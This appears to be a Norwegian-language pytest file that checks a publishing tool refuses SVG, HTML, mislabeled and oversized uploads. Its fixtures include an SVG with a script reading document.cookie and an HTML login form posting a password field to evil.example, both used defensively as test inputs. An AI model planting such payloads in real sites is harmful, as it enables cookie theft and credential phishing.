"""Files an entry publishes: allowed types told by content, not name, and size limits, with
file:line errors naming the file (innomed/uploads.py)."""

from __future__ import annotations

import pytest

from innomed.errors import ContentErrors
from innomed.pipeline import load_content

from conftest import (
    JPEG_BYTES,
    PDF_TEXT,
    PNG_BYTES,
    run_build_py,
    write,
    write_bytes,
    write_project,
)

pytestmark = pytest.mark.unit

PROJECT = """\
---
title: Testprosjekt
summary: Kort.
kind: Prosjektbeskrivelse
status: Pågående
regions: [Nord]
owner: Helse Testfjord
{extra}---
Tekst.
"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
LOGIN = b'<!doctype html><form action="https://evil.example/"><input name="passord"></form>'


def errors_for(root, extra: str) -> list[str]:
    write_project(root, "x", text=PROJECT.format(extra=extra))
    try:
        load_content(root)
    except ContentErrors as caught:
        return [str(error) for error in caught.errors]
    return []


def image(name: str) -> str:
    return f"image:\n  file: bilder/{name}\n  alt: Et bilde\n"


def attachment(name: str) -> str:
    return f"attachments:\n  - title: Vedlegg\n    file: filer/{name}\n"


def test_allowed_files_pass(scratch):
    write_bytes(scratch, "projects/bilder/foto.png", PNG_BYTES)
    write_bytes(scratch, "projects/filer/rapport.pdf", PDF_TEXT.encode())
    write(scratch, "projects/filer/tall.csv", "region;antall\nNord;3\n")
    extra = (
        image("foto.png")
        + attachment("rapport.pdf")
        + "  - title: Tall\n    file: filer/tall.csv\n"
    )
    assert errors_for(scratch, extra) == []


def test_svg_image_is_refused_even_when_named_png(scratch):
    write_bytes(scratch, "projects/bilder/logo.svg", SVG)
    write_bytes(scratch, "projects/bilder/logo.png", SVG)
    assert errors_for(scratch, image("logo.svg")) == [
        "projects/x.md:9: image.file: filen 'logo.svg' har en filtype som ikke kan publiseres "
        "(forventet PNG, JPEG, GIF eller WebP; SVG og HTML kan inneholde skript og publiseres "
        "ikke)"
    ]
    assert errors_for(scratch, image("logo.png")) == [
        "projects/x.md:9: image.file: filen 'logo.png' er ikke et PNG-bilde, slik navnet sier "
        "(forventet et PNG-bilde; lagre filen på nytt i riktig format)"
    ]


@pytest.mark.parametrize("name", ["logg-inn.html", "logg-inn.pdf", "logg-inn.csv"])
def test_html_page_is_not_published_as_a_download(scratch, name):
    write_bytes(scratch, f"projects/filer/{name}", LOGIN)
    [error] = errors_for(scratch, attachment(name))
    assert error.startswith(f"projects/x.md:10: attachments[0].file: filen '{name}' ")


def test_large_image_is_refused_with_its_size(scratch):
    write_bytes(scratch, "projects/bilder/stor.jpg", JPEG_BYTES + bytes(18_000_000))
    assert errors_for(scratch, image("stor.jpg")) == [
        "projects/x.md:9: image.file: filen 'stor.jpg' er 18,0 MB (forventet høyst 2,0 MB; "
        "gjør bildet mindre, for eksempel 2000 piksler bredt, eller lagre det som JPEG)"
    ]


def test_pdf_as_image_is_refused(scratch):
    write_bytes(scratch, "projects/bilder/side.pdf", PDF_TEXT.encode())
    [error] = errors_for(scratch, image("side.pdf"))
    assert "filen 'side.pdf' har en filtype som ikke kan publiseres" in error


def test_check_sees_a_file_replaced_under_the_same_name(scratch):
    """`check` after a good image is swapped for an SVG with the same name (its memory of
    the last pass must not answer for the new bytes)."""
    write_bytes(scratch, "projects/bilder/foto.png", PNG_BYTES)
    write_project(scratch, "x", text=PROJECT.format(extra=image("foto.png")))
    assert run_build_py(scratch, "check").returncode == 0
    write_bytes(scratch, "projects/bilder/foto.png", SVG)
    result = run_build_py(scratch, "check")
    assert result.returncode != 0
    assert "filen 'foto.png' er ikke et PNG-bilde" in result.stderr
